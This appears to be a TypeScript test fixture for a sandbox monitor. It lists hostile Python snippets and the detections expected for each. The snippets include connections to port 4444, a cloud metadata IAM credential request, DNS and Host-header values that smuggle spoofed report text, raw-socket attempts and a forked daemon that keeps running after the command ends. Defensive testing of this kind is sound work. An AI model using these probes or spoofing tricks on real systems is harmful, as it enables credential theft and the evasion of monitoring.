import type { Behaviour, SandboxRun } from "../../src/model/sandbox-run.ts";

/** What one hostile program does, and what must come of it. */
export interface WitnessAttack {
  attack: string;
  /** As `docs/sandbox-security.md` says it. */
  expected: string;
  /** Python; it must run to its end. */
  program: string;
  holds: (run: SandboxRun) => boolean;
}

const TCP = `
def tcp(address, data, family=socket.AF_INET, wait=False):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(10)
    s.connect(address)
    s.sendall(data)
    if wait: s.recv(100)
    s.close()
`;

/** Whether there is a behaviour of the capability whose target has all the words. */
export function told(
  run: SandboxRun,
  capability: Behaviour["capability"],
  ...words: string[]
): boolean {
  return run.behaviours.some(
    (one) => one.capability === capability && words.every((word) => one.target.includes(word)),
  );
}

/** Whether something was sent there. */
export function sentTo(place: string) {
  return (run: SandboxRun) => told(run, "network.send", place);
}

/** Whether nothing was seen. */
export function unseen(run: SandboxRun): boolean {
  return run.behaviours.length === 0;
}

/** Whether the program printed these lines. */
export function printed(...lines: string[]) {
  return (run: SandboxRun) => lines.every((line) => run.log.tail.split("\n").includes(line));
}

/** Whether all of these hold. */
export function all(...checks: ((run: SandboxRun) => boolean)[]) {
  return (run: SandboxRun) => checks.every((check) => check(run));
}

/** Destinations: where a program may try to reach. */
export const DESTINATION_ATTACKS: readonly WitnessAttack[] = [
  {
    attack: "connects to an IPv4 address",
    expected: "seen, with port and bytes",
    program: 'tcp(("203.0.113.7", 4444), b"hello")',
    holds: sentTo("203.0.113.7:4444 (TCP)"),
  },
  {
    attack: "connects to an IPv6 address",
    expected: "seen, with port and bytes",
    program: 'tcp(("2001:db8:7::1", 4444), b"hello", socket.AF_INET6)',
    holds: sentTo("[2001:db8:7::1]:4444 (TCP)"),
  },
  {
    attack: "connects to an IPv4 address written as IPv6",
    expected: "seen",
    program: 'tcp(("::ffff:203.0.113.8", 4444), b"hello", socket.AF_INET6)',
    holds: sentTo("203.0.113.8:4444 (TCP)"),
  },
  {
    attack: "asks the metadata service of a cloud",
    expected: "seen as that",
    program:
      'tcp(("169.254.169.254", 80), b"GET /latest/meta-data/iam/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\n\\r\\n")',
    holds: (run) => told(run, "read.metadata", "http://169.254.169.254/latest/meta-data/iam/"),
  },
  {
    attack: "connects to addresses that hosts and engines usually have",
    expected: "all end in the recorder",
    program: 'for a in ("10.0.0.1", "172.17.0.1", "192.168.0.1"): tcp((a, 22), b"x")',
    holds: all(sentTo("10.0.0.1:22"), sentTo("172.17.0.1:22"), sentTo("192.168.0.1:22")),
  },
  {
    attack: "speaks TLS",
    expected: "refused at once; the name is told",
    program: `import ssl
try: ssl.create_default_context().wrap_socket(socket.create_connection(("drop.example", 443), 5), server_hostname="drop.example")
except ssl.SSLError: pass`,
    holds: sentTo("drop.example:443 (TLS name drop.example)"),
  },
  {
    attack: "speaks HTTP under another name than it asked for",
    expected: "the name in the request is told, and where it really went",
    program: `s = socket.create_connection(("front.example", 80), 5)
s.sendall(b"POST /x HTTP/1.1\\r\\nHost: behind.example\\r\\nContent-Length: 2\\r\\n\\r\\nok")
print(s.recv(100)[:12].decode())`,
    holds: all(
      sentTo("POST http://behind.example/x, connected to front.example"),
      printed("HTTP/1.1 404"),
    ),
  },
  {
    attack: "hides an address behind the name of a place that others reach, too",
    expected: "both are told, each as what it is",
    program: `import http.client, ssl
def get(host):
    c = http.client.HTTPConnection(host, 80, timeout=5); c.request("GET", "/", headers={"Host": "known.example"}); c.getresponse().read()
get("known.example"); get("203.0.113.50")
context = ssl.create_default_context()
try: context.wrap_socket(socket.create_connection(("203.0.113.51", 443), 5), server_hostname="known.example")
except OSError: pass`,
    holds: all(
      (run) =>
        run.behaviours.some(({ target }) => target === "GET http://known.example/") &&
        run.behaviours.length === 3,
      sentTo("GET http://known.example/, connected to 203.0.113.50"),
      sentTo("known.example:443 (TLS name known.example), connected to 203.0.113.51"),
    ),
  },
  {
    attack: "asks for names that read like words of a report",
    expected: "told in characters of names alone",
    program: `def ask(*labels):
    query = b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"".join(bytes([len(x)]) + x for x in labels) + b"\\0\\0\\1\\0\\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s: s.sendto(query, ("198.51.100.53", 53))
ask(b"known.example, carrying x", b"example")
tcp(("203.0.113.52", 80), b"GET / HTTP/1.1\\r\\nHost: known.example, connected to known.example\\r\\n\\r\\n")`,
    holds: all(
      sentTo("the name known.example??carrying?x.example (DNS)"),
      sentTo("GET http://known.example??connected?to?known.example/, connected to 203.0.113.52"),
    ),
  },
  {
    attack: "sends UDP, whole and in fragments",
    expected: "seen",
    program:
      's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("198.51.100.3", 53000)); s.sendto(b"x" * 30000, ("198.51.100.4", 9))',
    holds: all(sentTo("198.51.100.3:53000 (UDP)"), sentTo("198.51.100.4:9 (UDP)")),
  },
  {
    attack: "pings by a datagram socket",
    expected: "denied, or seen",
    program: `try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.sendto(b"\\x08\\0\\0\\0\\0\\0\\0\\0hidden", ("198.51.100.5", 0))
except PermissionError: print("denied")`,
    holds: (run) => printed("denied")(run) || sentTo("198.51.100.5 (ICMP)")(run),
  },
  {
    attack: "opens raw, packet and virtual machine sockets",
    expected: "denied",
    program: `for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW), (40, socket.SOCK_STREAM)):
    try: socket.socket(family, kind, 1 if family == socket.AF_INET else 0); print("open")
    except PermissionError: print("denied")`,
    holds: all(printed("denied"), (run) => !printed("open")(run), unseen),
  },
  {
    attack: "lets a daemon connect while the command ends",
    expected: "what it reached in time is seen, and it does not survive",
    program: `if os.fork() == 0:
    os.setsid()
    tcp(("203.0.113.9", 4444), b"late")
    time.sleep(300)
time.sleep(1)`,
    holds: sentTo("203.0.113.9:4444"),
  },
];

/** What an honest program may rely on. */
export const HONEST_PROGRAMS: readonly WitnessAttack[] = [
  {
    attack: "serves itself on loopback, over IPv4 and IPv6, by name and address",
    expected: "works, and is not told",
    program: `for family, name in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"), (socket.AF_INET, "localhost")):
    server = socket.socket(family); server.bind((name, 0)); server.listen(1)
    tcp(server.getsockname()[:2], b"hi", family)
    print(server.accept()[0].recv(2).decode())`,
    holds: all(printed("hi"), unseen),
  },
  {
    attack: "expects a refused connection on loopback",
    expected: "is refused, and is not told",
    program: `try: tcp(("127.0.0.1", 8080), b"x")
except ConnectionRefusedError: print("refused")`,
    holds: all(printed("refused"), unseen),
  },
  {
    attack: "expects a name that does not exist",
    expected: "does not exist",
    program: `try: socket.gethostbyname("does-not-exist.invalid")
except socket.gaierror as e: print("unknown", e.errno == socket.EAI_NONAME)`,
    holds: printed("unknown True"),
  },
  {
    attack: "sees that decoys are there, and writes beside them",
    expected: "works, and is not told",
    program: `for folder in ("~/.aws", "~/.ssh", "~/.config", "~/.docker"):
    os.listdir(os.path.expanduser(folder)); open(os.path.expanduser(folder + "/other"), "w").write("x")
os.stat(os.path.expanduser("~/.aws/credentials")); print("wrote")`,
    holds: all(printed("wrote"), unseen),
  },
];

/** The beginning of every program. */
export const PRELUDE = `import base64, gzip, os, socket, time\nbegan = time.monotonic()\n${TCP}`;
